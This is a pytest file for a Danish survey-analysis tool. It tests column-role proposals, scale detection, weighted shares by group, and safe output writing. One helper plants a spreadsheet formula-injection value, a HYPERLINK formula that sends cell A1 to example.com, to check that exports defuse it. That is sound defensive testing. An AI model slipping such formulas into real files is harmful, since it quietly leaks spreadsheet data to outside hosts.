"""A survey description proposed from the file, for surveys the demo does not resemble, and the shares
and appendix tables computed with it (asserted against values computed by hand here)."""

import numpy as np
import pandas as pd
import pytest

from textmine.cli import main
from textmine.config import load_config
from textmine.survey import shares
from textmine.survey.reading import read_survey
from textmine.survey.setup import (
    BACKGROUND,
    CHECKBOX,
    ID,
    LIKERT,
    OTHER,
    QUESTION,
    WEIGHT,
    SetupError,
    description,
    propose,
    with_roles,
)

AGREE = ["Helt uenig", "Uenig", "Hverken enig eller uenig", "Enig", "Helt enig"]
TEXTS = ["Bedre samarbejde med virksomhederne i området", "Mere tid til den enkelte borger i samtalen",
         "Færre regler og mindre dokumentation i hverdagen", "Kurser i digitale værktøjer og kunstig intelligens",
         "Sparring med kolleger om svære sager og forløb", "Tættere kontakt til uddannelsesinstitutionerne"]


def municipal_survey(n: int = 60) -> pd.DataFrame:
    """Not the demo: the first column repeats, the id is `løbenr`, items are text labels, 1-7 and 0-10."""
    rng = np.random.default_rng(3)
    return pd.DataFrame({
        "afdeling": [["Nord", "Syd", "Vest"][i % 3] for i in range(n)],                 # repeats: not the id
        "løbenr": [f"M{i:03d}" for i in range(n)],
        "stilling": [["Sagsbehandler", "Leder"][i % 4 == 0] for i in range(n)],
        "fritekst": [f"{TEXTS[i % 6]} nummer {i}" for i in range(n)],
        "tilfreds_job": [AGREE[rng.integers(0, 5)] for _ in range(n)],
        "tilfreds_leder": [AGREE[rng.integers(0, 5)] for _ in range(n)],
        "tilfreds_kolleger": [["Ved ikke", *AGREE][rng.integers(0, 6)] for _ in range(n)],
        "nps_anbefal": [str(rng.integers(0, 11)) for _ in range(n)],          # another scale than the others
        "vaegt": [f"{w:.3f}" for w in rng.uniform(0.5, 1.5, n)],
        "mg_a": [["Ja", "Nej"][i % 2] for i in range(n)], "mg_b": ["Nej"] * n, "mg_c": ["Ja"] * n,
    })


def test_the_proposal_names_each_columns_role_with_a_reason():
    proposal = propose(municipal_survey())
    roles = {r.column: r.role for r in proposal.roles}
    assert roles == {"afdeling": BACKGROUND, "løbenr": ID, "stilling": BACKGROUND, "fritekst": QUESTION,
                     "tilfreds_job": LIKERT, "tilfreds_leder": LIKERT, "tilfreds_kolleger": LIKERT,
                     "nps_anbefal": OTHER, "vaegt": WEIGHT, "mg_a": CHECKBOX, "mg_b": CHECKBOX, "mg_c": CHECKBOX}
    assert proposal.fields == {"tilfreds": ["tilfreds_job", "tilfreds_leder", "tilfreds_kolleger"]}
    assert all(r.reason for r in proposal.roles)
    assert "Ved ikke" in next(r.reason for r in proposal.roles if r.column == "tilfreds_kolleger")
    assert "anden skala" in next(r.reason for r in proposal.roles if r.column == "nps_anbefal")


def test_an_item_without_a_shared_prefix_is_its_own_field_named_after_it():
    """Not "Spørgsmål" under the heading Vidensfelt (what an analyst's own survey got)."""
    survey = municipal_survey().drop(columns=["tilfreds_job", "tilfreds_leder", "tilfreds_kolleger", "nps_anbefal"])
    survey["tilfredshed"] = [str(1 + i % 5) for i in range(len(survey))]
    assert propose(survey).fields == {"Tilfredshed": ["tilfredshed"]}


def test_an_open_question_has_many_different_answers_of_several_words():
    """Not a background column whose few values are phrases, nor a column of distinct single words."""
    survey = municipal_survey()
    survey["erfaring"] = [["Mindre end 1 år", "Mellem 1 og 5 år", "Mere end 5 år"][i % 3] for i in range(len(survey))]
    survey["kaldenavn"] = [f"Kollega{i}" for i in range(len(survey))]
    roles = {r.column: r.role for r in propose(survey).roles}
    assert (roles["fritekst"], roles["erfaring"], roles["kaldenavn"]) == (QUESTION, BACKGROUND, OTHER)


def test_the_id_is_the_column_named_like_an_id_when_another_unique_column_comes_first():
    survey = municipal_survey()
    survey.insert(0, "startet", [f"2024-03-{1 + i % 28:02d} 10:{i:02d}" for i in range(len(survey))])    # unique too
    assert propose(survey).of(ID) == ["løbenr"]


@pytest.mark.parametrize("codes,scale,missing", [
    (list(range(11)), (0, 10), ()), ([*range(11), 99], (0, 10), ("99",)), ([*range(1, 6), 9], (1, 5), ("9",))])
def test_9_and_99_mean_not_answered_only_beyond_the_scale(codes, scale, missing):
    """On a 0-10 scale 9 is an answer (and counts as high); after 1-5, 9 means not answered."""
    table = pd.DataFrame({"id": [str(i) for i in range(44)], "q_x": [str(codes[i % len(codes)]) for i in range(44)]})
    found = propose(table).scale
    assert (found.minimum, found.maximum) == scale and found.missing == missing


def test_two_weight_columns_are_refused_until_the_analyst_keeps_one(tmp_path):
    survey = municipal_survey()
    survey["vaegt_ny"] = [f"{w:.3f}" for w in np.random.default_rng(4).uniform(0.6, 1.4, len(survey))]
    proposal = propose(survey)
    roles = {r.column: r.role for r in proposal.roles}
    assert proposal.of(WEIGHT) == ["vaegt", "vaegt_ny"]
    with pytest.raises(SetupError, match="kun være én vægtkolonne, men »vaegt«, »vaegt_ny«"):
        description(with_roles(proposal, survey, roles), tmp_path / "s.csv", {})
    text = description(with_roles(proposal, survey, {**roles, "vaegt": OTHER}), tmp_path / "s.csv", {})
    assert 'weight_column = "vaegt_ny"' in text


@pytest.mark.parametrize("values,scale,cuts", [
    (AGREE, (1, 5), (2, 4)), ([str(v) for v in range(1, 8)], (1, 7), (3, 5)),
    (["Ved ikke", *map(str, range(11))], (0, 10), (3, 7))])
def test_each_scale_is_found_with_the_reports_cut_points(values, scale, cuts):
    table = pd.DataFrame({"id": [str(i) for i in range(40)], "q_x": [values[i % len(values)] for i in range(40)]})
    found = propose(table).scale
    assert (found.minimum, found.maximum) == scale and found.cuts == cuts


def test_shares_by_group_with_the_written_description_match_a_hand_count(tmp_path):
    survey = municipal_survey()
    survey.to_csv(tmp_path / "kommune.csv", index=False)
    assert main(["init", str(tmp_path / "kommune.csv"), "--out", str(tmp_path / "kommune.toml")]) == 0
    config = load_config(tmp_path / "kommune.toml")
    assert config.id_column == "løbenr" and config.weight_column == "vaegt" and list(config.questions) == ["fritekst"]
    table = read_survey(config.survey_file)
    groups = shares.groups_by_column(table, "afdeling")
    items = shares.item_shares(table, config, groups).set_index(["item", "group"])
    weights = survey["vaegt"].astype(float)
    for item in ("tilfreds_job", "tilfreds_kolleger"):
        north = (survey["afdeling"] == "Nord") & (survey[item] != "Ved ikke")      # "ved ikke" is not answered
        high = survey[item].isin({"Enig", "Helt enig"})                           # 4-5 of the five labels
        assert items.loc[(item, "Nord"), "n"] == north.sum()
        assert items.loc[(item, "Nord"), "share"] == pytest.approx(100 * weights[north & high].sum() / weights[north].sum())


@pytest.mark.parametrize("codes,high_from", [([str(v) for v in range(1, 8)], 5), (["Ved ikke", *map(str, range(11))], 7)])
def test_shares_on_a_1_7_and_a_0_10_scale(tmp_path, codes, high_from):
    from textmine.survey.setup import to_toml

    survey = pd.DataFrame({"id": [f"x{i}" for i in range(50)], "gruppe": [["A", "B"][i % 2] for i in range(50)],
                           "s_a": [codes[(i * 3) % len(codes)] for i in range(50)]})
    survey.to_csv(tmp_path / "s.csv", index=False)
    (tmp_path / "s.toml").write_text(to_toml(propose(survey), tmp_path / "s.csv"), encoding="utf-8")
    config = load_config(tmp_path / "s.toml")
    row = shares.item_shares(survey, config, shares.groups_by_column(survey, "gruppe")).set_index("group").loc["A"]
    values = pd.to_numeric(survey.loc[survey["gruppe"] == "A", "s_a"], errors="coerce").dropna()
    assert row["n"] == len(values) and row["share"] == pytest.approx(100 * (values >= high_from).mean())


def test_spss_value_labels_are_proposed_as_a_text_scale(tmp_path):
    import pyreadstat

    codes = pd.DataFrame({"resp": [float(i) for i in range(30)], "grad_a": [float(1 + i % 5) for i in range(30)],
                          "grad_b": [float(1 + (i * 2) % 5) for i in range(30)]})
    labels = dict(enumerate(["I meget lav grad", "I lav grad", "I nogen grad", "I høj grad", "I meget høj grad"], 1))
    pyreadstat.write_sav(codes, tmp_path / "s.sav", variable_value_labels={"grad_a": labels, "grad_b": labels})
    proposal = propose(read_survey(tmp_path / "s.sav"))
    assert proposal.of(LIKERT) == ["grad_a", "grad_b"] and proposal.scale.labels[0] == "i meget lav grad"
    assert proposal.of(ID) == ["resp"]


def test_init_reproduces_the_demo_descriptions_roles(tmp_path):
    config = load_config()
    proposal = propose(read_survey(config.survey_file, config.sheet))
    assert proposal.of(ID) == [config.id_column]
    assert proposal.of(QUESTION) == list(config.questions)
    assert proposal.of(BACKGROUND) == list(config.background)
    assert sorted(map(sorted, proposal.fields.values())) == sorted(map(sorted, config.likert.fields.values()))
    assert (proposal.scale.minimum, proposal.scale.maximum, proposal.scale.cuts) == (1, 5, (2, 4))


def test_appendix_tables_by_municipality_add_up_and_give_the_mean_of_the_codes():
    config = load_config()
    table = read_survey(config.survey_file, config.sheet)
    dist = shares.item_distribution(table, config, shares.groups_by_column(table, "kommune"))
    answered = dist[dist["n"] > 0]
    assert (answered[["Lavt", "Mellem", "Højt"]].sum(axis=1)).round(9).eq(100).all() and (answered["I alt"] == 100).all()
    row = dist[(dist["item"] == "au_matche") & (dist["group"] == "Aarhus")].iloc[0]
    codes = pd.to_numeric(table.loc[table["kommune"] == "Aarhus", "au_matche"], errors="coerce")
    codes = codes[(codes >= 1) & (codes <= 5)]
    assert row["n"] == len(codes) and row["Gennemsnit"] == pytest.approx(codes.mean())
    assert row["Lavt"] == pytest.approx(100 * (codes <= 2).mean()) and row["field"] == "Arbejdsmarked & Uddannelse"


def test_shares_by_a_background_column_on_the_command_line(tmp_path):
    assert main(["shares", "--by", "kommune", "--out", str(tmp_path)]) == 0
    dist = pd.read_csv(tmp_path / "item_distribution.csv")
    assert set(dist["group"]) == set(load_config().__class__ and read_survey(load_config().survey_file,
                                                                               load_config().sheet)["kommune"])
    assert {"Lavt", "Mellem", "Højt", "I alt", "Gennemsnit"} <= set(dist.columns)


def test_init_refuses_to_overwrite_a_description(tmp_path, capsys):
    (tmp_path / "s.csv").write_text("id,q\n1,a\n", encoding="utf-8")
    (tmp_path / "s.toml").write_text("# mine\n", encoding="utf-8")
    assert main(["init", str(tmp_path / "s.csv")]) == 2
    assert "findes allerede" in capsys.readouterr().err and (tmp_path / "s.toml").read_text() == "# mine\n"


def test_init_with_a_sheet_records_the_sheet_so_the_description_reads_it(tmp_path):
    source = tmp_path / "s.xlsx"
    with pd.ExcelWriter(source) as book:
        pd.DataFrame({"Note": ["Forside"]}).to_excel(book, sheet_name="Forside", index=False)
        pd.DataFrame({"id": [f"r{i}" for i in range(30)],
                      "q": [f"{TEXTS[i % 6]} nummer {i}" for i in range(30)]}).to_excel(book, sheet_name="Data", index=False)
    assert main(["init", str(source), "--sheet", "Data"]) == 0
    config = load_config(tmp_path / "s.toml")
    assert config.sheet == "Data" and list(config.questions) == ["q"]
    assert len(read_survey(source, config.sheet_for(source))) == 30


def _survey_with_a_formula_group(tmp_path):
    from textmine.survey.setup import description, save_description

    rng = np.random.default_rng(3)
    groups = ["Aarhus", '=HYPERLINK("http://example.com/?q="&A1,"klik")', "Skive"]
    table = pd.DataFrame({"id": [f"r{i}" for i in range(60)], "kommune": [groups[i % 3] for i in range(60)],
                          "tekst": [f"{TEXTS[i % 6]} nummer {i}" for i in range(60)],
                          **{f"tf_{k}": [str(rng.integers(1, 6)) for _ in range(60)] for k in ("job", "leder", "team")}})
    path = tmp_path / "s.csv"
    table.to_csv(path, index=False)
    return path, save_description(description(propose(table), path, {}), path), groups[1]


def test_shares_by_a_column_write_no_live_formula(tmp_path):
    import csv

    path, config, formula = _survey_with_a_formula_group(tmp_path)
    assert main(["shares", str(path), "--config", str(config), "--by", "kommune", "--out", str(tmp_path / "ud")]) == 0
    for name in ("item_shares.csv", "field_shares.csv", "item_distribution.csv"):
        with open(tmp_path / "ud" / name, encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert "'" + formula in cells and not [c for c in cells if c.startswith("=")], name


def test_shares_replace_their_files_whole_or_not_at_all(tmp_path, monkeypatch, capsys):
    import errno

    path, config, _ = _survey_with_a_formula_group(tmp_path)
    out = tmp_path / "ud"
    out.mkdir()
    for name in ("item_shares.csv", "field_shares.csv", "item_distribution.csv"):
        (out / name).write_bytes(b"tidligere\r\n")

    def half_then_full_disk(frame, target, *args, **kwargs):
        open(target, "w", encoding="utf-8").write("item,gro")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_full_disk)
    assert main(["shares", str(path), "--config", str(config), "--by", "kommune", "--out", str(out)]) == 2
    assert "plads" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["field_shares.csv", "item_distribution.csv", "item_shares.csv"]
    assert {p.read_bytes() for p in out.iterdir()} == {b"tidligere\r\n"}
